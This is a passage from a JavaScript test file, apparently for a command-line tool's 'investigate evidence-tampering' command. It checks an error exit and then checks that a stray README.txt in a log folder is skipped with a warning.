    expect([r.code, last(r.err)]).toEqual([1, expect.stringMatching(LAST)]);
    const root = copyOf('readme');
    fs.writeFileSync(path.join(root, 'README.txt'), 'case notes\n');
    const withReadme = await json('investigate', 'evidence-tampering', '--logs', 'readme');
    expect([withReadme.code, withReadme.json.warnings]).toEqual([0, expect.arrayContaining(['readme/README.txt: not a file of a known evidence layout (unrecognised path or content); skipped'])]);
  });
});
